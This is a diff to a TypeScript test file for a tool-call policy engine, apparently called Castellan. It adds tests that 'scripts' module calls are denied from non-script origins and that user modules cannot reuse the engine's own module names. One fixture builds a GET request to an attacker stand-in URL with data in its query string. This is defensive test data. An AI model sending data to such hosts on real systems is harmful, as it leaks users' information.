@@ -1,8 +1,8 @@
 // What a script does by itself is judged like what anybody does: by its effects, its rules, and by which script it is.
 import { NEW_SESSION } from '@castellan/contract';
 import { expect, test } from 'vitest';
-import { analyse, decide, summarise } from '../src/index.ts';
-import { call, DIGEST, FACTS, NOW, policy, rule, shippedPolicy } from './fixtures.ts';
+import { analyse, compilePolicy, decide, summarise } from '../src/index.ts';
+import { call, DIGEST, FACTS, grant, KIT, NOW, policy, rule, shippedPolicy, shippedSource } from './fixtures.ts';
 
 const shipped = shippedPolicy();
 const script = { name: 'nightly', digest: DIGEST, run: 'run_000001' } as const;
@@ -40,4 +40,34 @@ test('a rule knows which script it is about', () => {
   };
   expect(judged(script)).toBe('R1');
   expect(judged(undefined)).not.toBe('R1');
+});
+
+test('what scripts do by themselves nobody else does, whatever they call themselves', () => {
+  const judged = (tool: string, change: object) => {
+    const made = call('scripts', tool, { method: 'GET', url: 'https://evil.example/?d=x' }, change);
+    const effects = analyse(made, shipped, FACTS);
+    const given = [grant({ module: 'scripts', tool })];
+    return decide({ call: made, effects, policy: shipped, session: NEW_SESSION, grants: given, now: NOW });
+  };
+  for (const tool of ['http_read', 'http_send', 'anything']) {
+    for (const origin of ['hook', 'api', 'mcp', 'terminal', 'schedule', 'script'] as const)
+      expect(judged(tool, { origin }).outcome, `${tool} ${origin}`).toBe('deny');
+    expect(judged(tool, { origin: 'mcp', script }).outcome).toBe('deny');
+  }
+  expect(judged('http_read', { origin: 'hook' }).reasons[0]).toMatchObject({ source: 'module-deny', id: 'scripts' });
+  expect(judged('http_read', { origin: 'script', script }).outcome).toBe('allow');
+});
+
+test("no module of one's own takes the name of Castellan's own tools", () => {
+  const named = (name: string) => {
+    const { manifests, ...rest } = shippedSource();
+    const manifest = { ...KIT, name, aliases: [] };
+    const own = { manifest, digest: DIGEST, source: `modules/${name}.yaml`, shipped: false };
+    return compilePolicy({ ...rest, manifests: [...manifests, own] });
+  };
+  for (const name of ['scripts', 'castellan']) {
+    const compiled = named(name);
+    expect(compiled.ok ? [] : compiled.faults.map(({ path }) => path)).toEqual([`modules/${name}.yaml`]);
+  }
+  expect(named('mine').ok).toBe(true);
 });
